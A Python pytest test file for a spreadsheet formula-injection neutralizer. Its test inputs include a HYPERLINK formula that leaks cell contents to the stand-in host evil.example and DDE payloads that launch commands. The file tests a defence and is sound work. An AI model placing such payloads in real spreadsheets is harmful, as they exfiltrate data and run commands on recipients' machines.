import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from imageprocessing_worker.formulas import neutralize, restore

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Sale")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-5-5",
    "+49 30 1234",
    "-",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    "\0x",
    " =1",
    "\u00a0=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    # Not ours, so one more must tell them apart.
    "'=1",
    "'-5",
]
DATA = ["", "x", "a=b", "1-2", "-5", "+5", "-1.50", "-1,50", "-1.234,56", " -5 ", "5", "'x", "''"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert neutralize(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", DATA)
def test_data_stays(cell: str) -> None:
    assert neutralize(cell) == cell


@given(st.text("'=-+@5. \t＝x"))
@example("''=1")
@example("'' =1")
def test_each_cell_comes_back(cell: str) -> None:
    assert restore(neutralize(cell)) == cell
